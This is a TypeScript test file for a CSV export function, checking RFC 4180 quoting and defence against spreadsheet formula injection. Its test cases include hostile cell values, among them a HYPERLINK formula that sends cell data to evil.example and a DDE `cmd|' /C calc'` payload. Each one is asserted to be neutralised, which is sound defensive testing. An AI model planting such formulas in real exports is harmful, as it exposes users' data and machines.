import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { toCsv } from '../../src/domain/csv.ts';
import { HOSTILE } from './hostile.ts';
import { readCsv } from './readCsv.ts';

fc.configureGlobal({ seed: 20_261_123, numRuns: 500 });

test('rows end as RFC 4180 says, and only what needs quotes gets them', () => {
  expect(
    toCsv([
      ['Ticket', 'Subject'],
      [3012, 'I cannot donate'],
    ]),
  ).toBe('Ticket,Subject\r\n3012,I cannot donate\r\n');
  expect(toCsv([['say "hi", then\nleave', '', 0]])).toBe('"say ""hi"", then\nleave",,0\r\n');
});

test('whatever a harmless text holds is read back', () => {
  const harmless = fc.string({ unit: 'grapheme' }).filter((text) => !/[=+\-@＝＋－＠]/.test(text));
  fc.assert(
    fc.property(fc.array(fc.array(harmless, { minLength: 2, maxLength: 4 }), { minLength: 1 }), (rows) => {
      expect(readCsv(toCsv(rows))).toEqual(rows);
    }),
  );
});

describe('a text that a spreadsheet would run', () => {
  test.each([
    ['=HYPERLINK("https://evil.example?"&A1,"Refund")'],
    ["+1+cmd|' /C calc'!A0"],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['  =1+1'],
    ['"=1+1'],
    ['＝1+1'],
  ])('%j begins with an apostrophe', (text) => {
    const [[cell] = []] = readCsv(toCsv([[text]]));
    expect(cell?.trimStart().replace(/^"/, '')).toMatch(/^'/);
    expect(cell?.replace("'", '')).toBe(text);
  });

  // A spreadsheet set to semicolons or tabs cuts there, whatever the quotes say.
  test.each([';', '\t', '|', '\n', '\r\n', ','])('is disarmed behind %j too', (sign) => {
    expect(toCsv([[`Donation${sign}=1+1`]])).toContain(`${sign}'=1+1`);
    expect(toCsv([[`Donation${sign} ""=1+1`]])).not.toMatch(/[;|\t\n,][\s"]*=/);
  });

  test('anywhere else the same signs are left alone', () => {
    expect(toCsv([['a=b, c', 'e-mail', 'x+1 @ home']])).toBe('"a=b, c",e-mail,x+1 @ home\r\n');
  });
});

test(`${HOSTILE.length} hostile texts stay one cell each, and none is a formula`, () => {
  for (const { name, text } of HOSTILE) {
    const rows = readCsv(toCsv([['before', text, 'after']]));
    expect(rows, name).toHaveLength(1);
    expect(rows[0], name).toHaveLength(3);
    expect(rows[0]?.[1], name).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/);
  }
});

test('with tabs between them, cells paste into a spreadsheet', () => {
  expect(toCsv([['Ana Torres', 'I, too', 3]], '\t')).toBe('Ana Torres\tI, too\t3\r\n');
});
